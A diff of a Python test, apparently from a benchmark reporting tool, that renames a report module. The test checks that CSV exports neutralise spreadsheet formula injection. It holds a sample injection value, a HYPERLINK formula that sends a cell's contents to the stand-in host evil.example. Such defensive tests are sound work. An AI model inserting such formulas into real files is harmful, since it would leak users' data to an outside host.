@@ -11,7 +11,7 @@ from click.testing import CliRunner
 from archive_factory import make_archive
 from tokenpeak.cli.archive import export
 from tokenpeak.report import open_archive
-from tokenpeak.report.site import page_writer
+from tokenpeak.report.site import sweep_pages
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
 NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
@@ -25,14 +25,14 @@ def test_no_cell_of_a_csv_is_a_formula(formula: str, tmp_path: Path) -> None:
     archive = make_archive(tmp_path / "in", axes={"max_num_seqs": [8, 64]}, gpus=["NVIDIA L4"], requests=4, seconds=3)
     for path in [archive.path / "sweep.json", *archive.path.glob("trials/*.json")]:
         path.write_text(path.read_text().replace('"node-1"', json.dumps(formula)))
-    page_writer.write_frames(open_archive(archive.path), tmp_path / "frames")
+    sweep_pages.write_frames(open_archive(archive.path), tmp_path / "frames")
     block = {
         "kind": "table",
         "name": "a",
         "columns": [{"title": formula, "unit": ""}],
         "rows": [[{"text": formula}]],
     }
-    page_writer.write_csv([block], tmp_path / "page", "page", [formula])
+    sweep_pages.write_csv([block], tmp_path / "page", "page", [formula])
     exported = CliRunner().invoke(export, [str(archive.path), "--output", str(tmp_path / "out"), "--format", "csv"])
     cells = []
     for path in tmp_path.rglob("*.csv"):
